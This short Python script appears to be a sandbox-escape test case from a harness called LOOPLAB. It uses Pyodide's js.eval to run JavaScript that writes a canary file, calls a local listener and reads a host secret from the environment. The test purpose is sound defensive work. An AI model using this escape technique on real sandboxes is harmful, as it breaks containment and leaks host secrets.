# Tries: import Pyodide's js module and run JavaScript with js.eval (canary, listener, host secret).
import asyncio
import json

import js

CANARY = "__LOOPLAB_CANARY__"
SECRET_NAME = "__LOOPLAB_SECRET_NAME__"
PORT = int("__LOOPLAB_PORT__")

PAYLOAD = f"""(() => {{
  const fs = globalThis.process?.getBuiltinModule?.('fs');
  fs?.writeFileSync({json.dumps(CANARY)}, 'written from JavaScript');
  globalThis.fetch?.('http://127.0.0.1:{PORT}/js-eval').catch(() => {{}});
  return String(globalThis.process?.env?.[{json.dumps(SECRET_NAME)}]);
}})()"""


async def main():
    secret = js.eval(PAYLOAD)
    print("ESCAPED: js.eval ran, the secret is", secret)


asyncio.run(main())
